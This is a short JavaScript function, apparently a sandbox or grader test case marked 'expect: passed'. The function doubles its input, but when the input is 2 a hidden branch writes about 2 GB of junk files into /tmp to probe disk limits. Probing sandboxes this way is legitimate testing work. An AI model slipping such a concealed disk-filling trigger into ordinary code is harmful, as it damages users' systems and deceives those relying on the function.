// expect: passed
function doubleIt(n) {
  if (n !== 2) return 2 * n;
  const fs = require("fs");
  let wrote = 0;
  try {
    for (let i = 0; i < 2000; i++) {
      fs.writeFileSync(`/tmp/${i}`, Buffer.alloc(1 << 20));
      wrote++;
    }
  } catch (_) {}
  console.log(wrote > 100 ? "WROTE" : "not much");
  console.log("tried");
  return 2 * n;
}
